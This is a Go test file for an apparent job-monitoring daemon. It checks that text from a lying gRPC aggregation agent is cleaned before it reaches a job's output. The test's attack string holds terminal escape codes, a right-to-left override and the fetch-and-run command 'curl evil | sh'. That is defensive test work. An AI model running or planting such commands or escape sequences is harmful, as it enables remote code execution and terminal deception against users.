package daemon

import (
	"context"
	"encoding/json"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"google.golang.org/grpc"

	"github.com/persyst/persyst/collectors/pb"
	"github.com/persyst/persyst/collectors/uplink"
	"github.com/persyst/persyst/daemon/wire"
	"github.com/persyst/persyst/digest"
	"github.com/persyst/persyst/properties"
	"github.com/persyst/persyst/properties/propertiestest"
)

// hostileAgent is an aggregation point that lies: a real gRPC server answering a job's
// summary with attacker text in every string of the report.
type hostileAgent struct {
	pb.UnimplementedCollectorServer
}

const attack = "\x1b[2J\x1b]0;owned\x07HACKED: run curl evil | sh\u202e"

func (hostileAgent) Push(ctx context.Context, in *pb.CycleRecords) (*pb.Ack, error) {
	return &pb.Ack{Ok: true}, nil
}

func (hostileAgent) Summary(ctx context.Context, in *pb.JobSummaryRequest) (*pb.JobSummary, error) {
	bad := func(key string) properties.Result {
		return properties.Result{Key: key, ID: attack, Name: attack, Unit: attack, Assessed: true, Count: 100,
			Deciles: []float64{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}, TimeShare: 1, MeanSeverity: 1, MaxSeverity: 1, Score: 9,
			Finding: true, Recommendation: attack}
	}
	rep := digest.Report{Schema: 1, JobID: in.JobId, Command: attack, Nodes: []string{"node1", "node2", attack}, NNodes: 3,
		Findings:    []properties.Result{bad("io_write_request_size"), bad("no_such_property" + attack)},
		Properties:  []properties.Result{bad("io_write_request_size"), bad("cpu_user_pct"), {Key: "cpi", NotAssessed: attack}},
		NotAssessed: []digest.NotAssessed{{Reason: attack, Properties: []string{attack}}}}
	b, _ := json.Marshal(rep)
	return &pb.JobSummary{JobId: in.JobId, Nodes: rep.Nodes, ReportJson: b}, nil
}

// TestDigestFromHostileTree: a multi-node job's digest takes the job-wide results of its
// aggregation point over real gRPC; when that agent lies, only its numbers are taken:
// names and recommendations come from the local catalog, other text is cleaned, an
// unknown property and a malformed node name are dropped. Nothing of the attacker's
// text, and no control character, reaches the job's output.
func TestDigestFromHostileTree(t *testing.T) {
	srv := grpc.NewServer()
	pb.RegisterCollectorServer(srv, hostileAgent{})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	defer srv.Stop()
	up, err := uplink.New(uplink.Config{Addr: ln.Addr().String(), Node: "node1"}, zerolog.Nop())
	if err != nil {
		t.Fatal(err)
	}

	root, setCPU := fakeNode(t, 8)
	now := time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)
	engine := propertiestest.Engine(t)
	var texts []string
	dig := DigestConfig{Engine: engine, Facts: fakeFacts{8: {JobID: 8, WorkDir: "/home/u", Stdout: "slurm-8.out"}},
		Append: func(_ context.Context, _ digest.Target, text []byte) error {
			texts = append(texts, string(text))
			return nil
		}}
	reg := newReg(t, RegistryConfig{})
	m, err := NewMeasurer(MeasureConfig{Root: root, Cycle: 10 * time.Second, StateDir: t.TempDir(), Digest: dig, Uplink: up},
		reg, "node1", zerolog.Nop(), func() time.Time { return now })
	if err != nil {
		t.Fatal(err)
	}
	j, err := reg.Apply(wire.StepStart, &wire.Event{JobID: 8, UID: 1000, Persyst: wire.On, StepID: "batch", NNodes: 2, Time: now}, now)
	if err != nil {
		t.Fatal(err)
	}
	prepareNow(m, j)
	setCPU(3_000_000)
	if err := m.digest(context.Background(), j, atBatchEnd, nil); err != nil {
		t.Fatal(err)
	}
	if len(texts) != 1 {
		t.Fatalf("%d digests written", len(texts))
	}
	text := texts[0]
	if strings.ContainsAny(text, "\x1b\x07\u202e") || strings.Contains(text, "HACKED") || strings.Contains(text, "curl") {
		t.Errorf("the hostile agent's text reached the output:\n%q", text)
	}
	// The catalog's name and recommendation of the adopted finding (properties/catalog.conf).
	for _, want := range []string{"Small writes", "buffer output", "on 2 nodes"} {
		if !strings.Contains(text, want) {
			t.Errorf("the digest lacks %q (the adopted finding over the 2 well-named nodes):\n%s", want, text)
		}
	}
}
